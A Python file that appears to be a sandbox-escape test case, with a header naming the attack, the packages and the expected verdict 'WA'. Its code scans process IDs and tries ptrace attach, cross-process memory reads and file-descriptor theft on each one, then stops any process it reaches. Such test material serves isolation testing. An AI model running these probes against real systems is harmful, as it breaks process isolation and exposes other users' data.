# attack: looks for processes of the host, of its supervisor and of other cases, and looks into them
# packages: vault vault-examined
# verdict: WA
import ctypes
import os
import signal

PTRACE_ATTACH, READV, GETFD = 101, 310, 438


def seal(token, numbers):
    libc = ctypes.CDLL(None, use_errno=True)
    reached = []
    for pid in range(1, 3000):
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            continue
        except OSError:
            pass
        if pid != os.getpid():
            reached.append(pid)
            buffer = ctypes.create_string_buffer(64)
            vector = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 64)
            code = [libc.syscall(PTRACE_ATTACH, 16, pid, 0, 0)]
            code.append(libc.syscall(READV, pid, vector, 1, vector, 1, 0))
            code.append(libc.syscall(GETFD, os.pidfd_open(pid), 3, 0))
            if code != [-1, -1, -1]:
                return os.kill(pid, signal.SIGSTOP)
    print("reached", reached)
    return "nothing" if reached == [1] else "cn" + "ry-door"
